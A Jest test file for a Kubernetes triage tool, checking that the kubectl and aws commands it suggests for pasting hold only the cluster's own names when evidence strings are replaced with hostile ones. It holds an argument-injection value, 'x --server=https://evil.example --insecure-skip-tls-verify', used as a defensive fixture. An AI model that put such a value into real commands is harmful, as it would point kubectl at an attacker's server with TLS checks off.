import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join as path } from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { run as triage } from '../../functions/cli/triage.ts';
import { callMessage } from '../../functions/incidents/escalation/message.ts';
import type { Bundle } from '../../functions/model/bundle.ts';
import { CAUSE_IDS } from '../../functions/model/cause.ts';
import type { Report } from '../../functions/model/report.ts';
import type { Playbook } from '../../functions/playbook/playbook.ts';
import { readBundle } from '../../functions/recordings/bundle-file.ts';
import { readRecording } from '../../functions/recordings/recording.ts';
import { startRecordingServer } from '../../functions/recordings/recording-server.ts';
import { buildReport } from '../../functions/triage/build-report.ts';
import { renderNote } from '../../functions/writing/note/note.ts';
import { renderPage } from '../../functions/writing/page/page.ts';
import { renderTerminal } from '../../functions/writing/terminal/terminal.ts';
import { INCIDENTS } from '../golden/incidents.ts';
import { HOSTILE_NAMES } from '../support/hostile-names.ts';
import { namesIn } from '../support/pasted.ts';
import { kubeconfigFor } from '../support/recording.ts';
import { renamed, stringsOf } from '../support/renamed.ts';
import { contextOf } from '../support/report.ts';
import { wordsOfCommand } from '../support/shell.mjs';
import { busyShop } from '../unit/diagnosis/mechanisms/busy-shop.ts';
import {
  app,
  bundleOf,
  join,
  NAMESPACE,
  playbook as playbookOf,
  pod,
} from '../unit/diagnosis/mechanisms/cluster.ts';

const folder = mkdtempSync(path(tmpdir(), 'firstnote-pasted-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** The team's own commands, their placeholders bare and in quotes of both kinds. */
const playbook: Playbook = {
  ...playbookOf(),
  actions: [
    {
      kind: 'look',
      text: 'the team’s own',
      command: `kubectl -n "{namespace}" get '{workload}' {name} "{object}"`,
      causes: [...CAUSE_IDS],
    },
  ],
};

const DEMO = new URL('../../functions/recordings/demo/', import.meta.url);

/** What a real cluster answered, as a bundle. */
async function recordedBundle(): Promise<Bundle> {
  const [file = ''] = readdirSync(DEMO).filter((name) => name.endsWith('.json.gz'));
  const recording = await readRecording(new URL(file, DEMO).pathname);
  const server = await startRecordingServer(recording);
  const kubeconfig = path(folder, 'kubeconfig');
  const saved = path(folder, 'bundle.json');
  writeFileSync(kubeconfig, kubeconfigFor(server.url));
  try {
    const argv = [
      '--kubeconfig',
      kubeconfig,
      '--namespace',
      recording.namespace,
      '--at',
      recording.recordedAt,
    ];
    await triage([...argv, '--bundle', saved], {
      stdin: Readable.from([]),
      stdout: () => undefined,
      stderr: () => undefined,
      interactive: false,
      colours: false,
      env: {},
      now: () => new Date(recording.recordedAt),
    });
  } finally {
    await server.close();
  }
  return (await readBundle(saved)).bundle;
}

const composed: Readonly<Record<string, Bundle>> = {
  ...Object.fromEntries(
    Object.entries(INCIDENTS).map(([name, { parts, target }]) => [name, bundleOf(parts, target)]),
  ),
  'everything at once': bundleOf(busyShop),
};
let recorded: Bundle;
beforeAll(async () => {
  recorded = await recordedBundle();
});

/** What stands in commands without being a name of this cluster. */
const OWN_WORDS =
  /^(?:pods?|nodes?|events|services?|hpa|configmaps?|pvc?|storageclass|serviceaccounts?|networkpolicy|ingress|job|cronjob|deployment|replicaset|statefulset|daemonset|resourcequota|limitrange|secrets|endpointslices|lease|kube-scheduler|kube-system|certificates\.cert-manager\.io)$/;

interface Printed {
  readonly json: readonly string[];
  readonly note: readonly string[];
  readonly terminal: readonly string[];
  readonly page: readonly string[];
  readonly call: readonly string[];
}

const plainText = (text: string): string =>
  text.replace(/&(?:lt|gt|quot|#39|#96|amp);/g, (entity) => ENTITIES[entity] ?? entity);
const ENTITIES: Readonly<Record<string, string>> = {
  '&lt;': '<',
  '&gt;': '>',
  '&quot;': '"',
  '&#39;': "'",
  '&#96;': '`',
  '&amp;': '&',
};
const indented = (text: string): readonly string[] =>
  (/^DO NEXT\n((?: .*\n)*)/m.exec(`${text}\n`)?.[1] ?? '')
    .split('\n')
    .flatMap((line) => /^ {4}(.+)$/.exec(line)?.[1] ?? []);

/** Every command wherever a responder may take it from. */
function printed(report: Report): Printed {
  const page = renderPage(report, contextOf({ playbook }));
  const message = callMessage({
    occurrence: 'Q1-1',
    step: 0,
    title: 'x',
    minutesOpen: 5,
    report,
    reportUrl: 'https://x.example',
  });
  return {
    json: report.causes.flatMap(({ actions }) => actions.flatMap(({ command }) => command ?? [])),
    note: indented(renderNote(report, contextOf({ playbook }))),
    terminal: indented(
      renderTerminal(report, { playbook, alert: { name: 'A', severity: '' }, colours: false }),
    ),
    page: [...page.matchAll(/<pre>(.*?)<\/pre>/gs)].map(([, text = '']) => plainText(text)),
    call: [...message.matchAll(/^Next: (kubectl|aws)(.*)$/gm)].map(([line]) => line.slice('Next: '.length)),
  };
}

/** @throws an error that names a command with a word which is none of ours and no name of the cluster. */
function check(bundle: Bundle): Printed {
  const all = printed(buildReport(bundle, playbook));
  const known = JSON.stringify([bundle.evidence, bundle.target]).toLowerCase();
  for (const command of new Set(Object.values(all).flat())) {
    const strange = namesIn(command).filter((name) => !OWN_WORDS.test(name) && !known.includes(name));
    if (strange.length > 0) throw new Error(`${strange.join()} is no name of the cluster: ${command}`);
  }
  return all;
}

/** What others wrote: the evidence that was read, and the target that an alert may name. */
const written = ({ evidence, target }: Bundle) => ({
  read: Object.values(evidence).map(({ data }) => data),
  target,
});

/** The bundle with one of these strings written otherwise. */
function hostileBundle(bundle: Bundle, from: string, to: string, inside: boolean): Bundle {
  const { read, target } = renamed(written(bundle), from, to, inside);
  const evidence = Object.entries(bundle.evidence).map(([name, entry], index) => [
    name,
    { ...entry, data: read[index] },
  ]);
  return { ...bundle, target, evidence: Object.fromEntries(evidence) };
}

/** It needs no metacharacter: kubectl would take it for a name and two flags. */
const INJECTION = 'x --server=https://evil.example --insecure-skip-tls-verify';

function pendingOn(claimName: string) {
  const message = '0/3 nodes are available: pod has unbound immediate PersistentVolumeClaims.';
  return join(
    app('db', {
      ready: false,
      phase: 'Pending',
      node: '',
      spec: { volumes: [{ name: 'data', persistentVolumeClaim: { claimName } }] },
      conditions: [{ type: 'PodScheduled', status: 'False', reason: 'Unschedulable', message }],
    }),
    {
      persistentvolumeclaims: [
        { metadata: { name: claimName, namespace: NAMESPACE }, spec: {}, status: { phase: 'Pending' } },
      ],
    },
  );
}

function waitingOwnedBy(ownerKind: string) {
  const waiting = { reason: 'CreateContainerConfigError', message: 'secret "db" not found' };
  return {
    pods: [pod('api', { ownerKind, ready: false, phase: 'Pending', state: { state: { waiting } } })],
    secrets: [],
  };
}

/** Of the bundles all but the healthy one have a cause; that one has looks, which the JSON has not. */
const FAULTY = 4;

describe('commands to paste', () => {
  it('are those that are meant, on note, page, call message, terminal and in JSON', () => {
    const seen = Object.values({ ...composed, recorded }).map(check);
    for (const outlet of ['json', 'note', 'terminal', 'page', 'call'] as const)
      expect({ outlet, some: seen.filter((all) => all[outlet].length > 0).length }).toEqual({
        outlet,
        some: outlet === 'call' || outlet === 'json' ? FAULTY : seen.length,
      });
  });

  it.each(Object.keys(composed))(
    '%s: keep to their words whatever any one string of the evidence is, alone or inside others',
    (name) => {
      const bundle = composed[name];
      if (bundle === undefined) throw new Error(name);
      stringsOf(written(bundle)).forEach((from, index) => {
        const hostile = (at: number): string => HOSTILE_NAMES[at % HOSTILE_NAMES.length] ?? '';
        check(hostileBundle(bundle, from, hostile(index), false));
        check(hostileBundle(bundle, from, hostile(index + HOSTILE_NAMES.length / 2), true));
      });
    },
  );

  it('keep to their words when several strings of a recorded cluster are hostile', () => {
    // Names that the report rests on; the others are in the bundles above.
    const said = JSON.stringify(buildReport(recorded, playbook).causes);
    const strings = stringsOf(written(recorded)).filter((text) => text.length > 2 && said.includes(text));
    const edit = fc.tuple(fc.constantFrom(...strings), fc.constantFrom(...HOSTILE_NAMES), fc.boolean());
    fc.assert(
      fc.property(fc.array(edit, { minLength: 1, maxLength: 3 }), (edits) => {
        check(
          edits.reduce((bundle, [from, to, inside]) => hostileBundle(bundle, from, to, inside), recorded),
        );
      }),
      { numRuns: 60 },
    );
  });

  it.each([
    ['the name of a claim', bundleOf(pendingOn(INJECTION)), 'volume-unbound'],
    ['the kind of an owner', bundleOf(waitingOwnedBy(INJECTION)), 'config-missing'],
  ])('are not offered for %s that no API validates: it is shown as text', (_, bundle, cause) => {
    check(bundle);
    const [first] = buildReport(bundle, playbook).causes;
    expect(first?.cause).toBe(cause);
    expect(first?.actions.map(({ command }) => command ?? '').join('\n')).not.toContain('evil');
    expect(first?.actions.map(({ text }) => text).join('\n')).toContain(
      `no command: "${INJECTION.toLowerCase()}" is not a Kubernetes name`,
    );
  });
});

/** Those of this machine. */
const SHELLS = ['sh', 'bash', 'zsh', 'dash'].filter((shell) => spawnSync(shell, ['-c', ':']).status === 0);

describe('a real shell', () => {
  it.each(SHELLS)('%s hands kubectl the words that the parser sees', (shell) => {
    const commands = [
      ...new Set(
        Object.values(composed).flatMap((bundle) =>
          HOSTILE_NAMES.flatMap((to) => check(hostileBundle(bundle, 'api', to, true)).json),
        ),
      ),
    ];
    const bin = mkdtempSync(path(folder, 'bin-'));
    for (const program of ['kubectl', 'aws']) {
      writeFileSync(path(bin, program), `#!/bin/sh\nprintf '%s\\0' ${program} "$@"\nprintf '\\n\\0'\n`);
      chmodSync(path(bin, program), 0o755);
    }
    const { stdout, stderr } = spawnSync(shell, [], {
      // Nothing but the stand-ins is found, whatever a command calls.
      input: `PATH=${bin}\n${commands.join('\n')}\n`,
      cwd: bin,
      encoding: 'utf8',
    });
    const words = stdout
      .split('\n\0')
      .slice(0, -1)
      .map((call) => call.split('\0').slice(0, -1));
    expect({ stderr, words }).toEqual({ stderr: '', words: commands.map(wordsOfCommand) });
    expect(readdirSync(bin).sort()).toEqual(['aws', 'kubectl']);
  });
});

const HAS_KUBECTL = spawnSync('kubectl', ['version', '--client']).status === 0;

/** Where kubectl is installed: it knows each verb and flag, and fails only since no server answers. */
(HAS_KUBECTL ? describe : describe.skip)('kubectl itself', () => {
  const kubeconfig = path(folder, 'nowhere');
  const NO_SERVER = /connection to the server (\S+) was refused|dial tcp (\S+): connect/;
  const serverAskedBy = (command: string): string | undefined => {
    const { stderr } = spawnSync('sh', ['-c', command], {
      env: { ...process.env, KUBECONFIG: kubeconfig },
      encoding: 'utf8',
    });
    const [, refused, dialled] = NO_SERVER.exec(stderr) ?? [];
    return refused ?? dialled ?? stderr;
  };
  beforeAll(() => writeFileSync(kubeconfig, kubeconfigFor('http://127.0.0.1:1')));

  it('takes every command as it is meant, but for the made-up one of the playbook', () => {
    const commands = Object.values({ ...composed, recorded })
      .flatMap((bundle) => check(bundle).json)
      .filter((command) => !command.startsWith('kubectl -n "'));
    for (const command of new Set(commands))
      expect({ command, asks: serverAskedBy(command) }).toEqual({ command, asks: '127.0.0.1:1' });
  });

  it('takes a quoted flag for a flag, which is why quoting alone protects nobody', () => {
    expect(serverAskedBy("kubectl describe pvc '--server=http://127.0.0.1:2'")).toBe('127.0.0.1:2');
  });
});
